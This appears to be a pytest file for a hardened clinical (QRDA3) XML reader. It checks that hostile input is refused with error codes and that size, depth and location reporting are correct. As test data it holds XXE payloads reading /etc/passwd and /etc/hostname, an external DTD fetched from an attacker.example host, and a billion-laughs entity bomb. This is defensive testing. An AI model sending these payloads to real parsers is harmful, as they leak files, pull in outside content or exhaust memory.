"""The hardened XML reader: hostile files are refused with a code, locations are exact."""

from __future__ import annotations

import pytest
from lxml import etree
from tests.support.qrda3 import Document, qrda3_document

from openqpp.intake.qrda3 import XmlLimits, convert
from openqpp.intake.qrda3.xml import (
    SourceText,
    XmlNotWellFormed,
    XmlRefused,
    absolute_path,
    check_well_formed,
    parse,
)
from openqpp.measures import MeasuresYear

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE ClinicalDocument [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<ClinicalDocument xmlns="urn:hl7-org:v3"><title>&xxe;</title></ClinicalDocument>"""

XXE_NETWORK = b"""<?xml version="1.0"?>
<!DOCTYPE ClinicalDocument SYSTEM "http://attacker.example/evil.dtd">
<ClinicalDocument xmlns="urn:hl7-org:v3"/>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>"""


def _never(_: int) -> MeasuresYear:
    raise AssertionError("the measures data must not be needed")


@pytest.mark.parametrize(
    ("name", "data"),
    [("xxe", XXE), ("xxe-network", XXE_NETWORK), ("billion-laughs", BILLION_LAUGHS)],
)
def test_dtd_entity_attacks_are_refused_with_a_code(name: str, data: bytes) -> None:
    with pytest.raises(XmlRefused) as caught:
        parse(data)
    assert caught.value.code == "OQ-XML-002"
    result = convert(data, source=f"{name}.xml", measures_for=_never)
    (problem,) = result.problems
    assert problem.code == "OQ-XML-002"
    (detail,) = result.error_report()["errors"][0]["details"]  # type: ignore[index]
    assert detail["errorCode"] == 2  # what the reference converter says for any DTD
    assert detail["code"] == "OQ-XML-002"


def test_an_xxe_inside_a_qrda_shaped_file_is_refused_too() -> None:
    data = qrda3_document(
        doctype='\n<!DOCTYPE ClinicalDocument [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
    )
    result = convert(data, source="x.xml", measures_for=_never)
    assert [p.code for p in result.problems] == ["OQ-XML-002"]


def test_a_utf16_dtd_is_caught_after_parsing() -> None:
    data = XXE.decode().replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>')
    with pytest.raises(XmlRefused) as caught:
        parse(data.encode("utf-16"))
    assert caught.value.code == "OQ-XML-002"


def test_an_oversize_file_is_refused_before_parsing() -> None:
    with pytest.raises(XmlRefused) as caught:
        parse(b"<a>" + b" " * 2000 + b"</a>", XmlLimits(max_bytes=1000))
    assert caught.value.code == "OQ-XML-001"
    result = convert(
        qrda3_document(), source="big.xml", measures_for=_never, limits=XmlLimits(max_bytes=100)
    )
    assert [p.code for p in result.problems] == ["OQ-XML-001"]


@pytest.mark.parametrize("depth", [50, 300, 5000])
def test_deep_nesting_is_refused(depth: int) -> None:
    data = b"<a>" * depth + b"</a>" * depth
    with pytest.raises(XmlRefused) as caught:
        parse(data, XmlLimits(max_depth=40))
    assert caught.value.code == "OQ-XML-003"


def test_nesting_within_the_limit_is_read() -> None:
    assert parse(b"<a>" * 30 + b"</a>" * 30, XmlLimits(max_depth=40)) is not None


def test_malformed_xml_is_reported_with_its_position() -> None:
    with pytest.raises(XmlNotWellFormed) as caught:
        parse(b"<a>\n  <b>\n</a>")
    assert caught.value.line == 3
    with pytest.raises(XmlNotWellFormed):
        check_well_formed(b"plain text")


def test_locations_are_just_after_the_start_tag_as_the_reference_reports_them() -> None:
    text = (
        b'<?xml version="1.0"?>\r\n'
        b"<!-- <fake> -->\r\n"
        b'<r xmlns="urn:x">\r\n'
        b'\t<a attr="1 > 0"\r\n'
        b'     other="x"/><b/>\r\n'
        b"  <![CDATA[ <c/> ]]><c/>\r\n"
        b"</r>"
    )
    root = parse(text)
    a, b, c = list(root)
    source = SourceText(text, root)
    assert source.position(root) == (3, 18)
    assert source.position(a) == (5, 17)
    assert source.position(b) == (5, 21)
    assert source.position(c) == (6, 25)


def test_absolute_paths_are_jdom_style() -> None:
    root = etree.fromstring(b'<r xmlns="urn:x"><a/><a><b/></a><c/></r>')
    b = root[1][0]
    assert absolute_path(b) == (
        "/*[local-name() = 'r' and namespace-uri() = 'urn:x']"
        "/*[local-name() = 'a' and namespace-uri() = 'urn:x'][2]"
        "/*[local-name() = 'b' and namespace-uri() = 'urn:x']"
    )
    assert absolute_path(root[2]).endswith("*[local-name() = 'c' and namespace-uri() = 'urn:x']")


def test_a_supported_guide_hidden_behind_character_references_is_still_found() -> None:
    data = qrda3_document(Document(pi=[], ia=None)).replace(
        b'extension="2024-12-01"', b'extension="2024-12-&#48;1"'
    )
    result = convert(data, source="x.xml", measures_for=_never)
    assert 5 not in [p.number for p in result.problems]
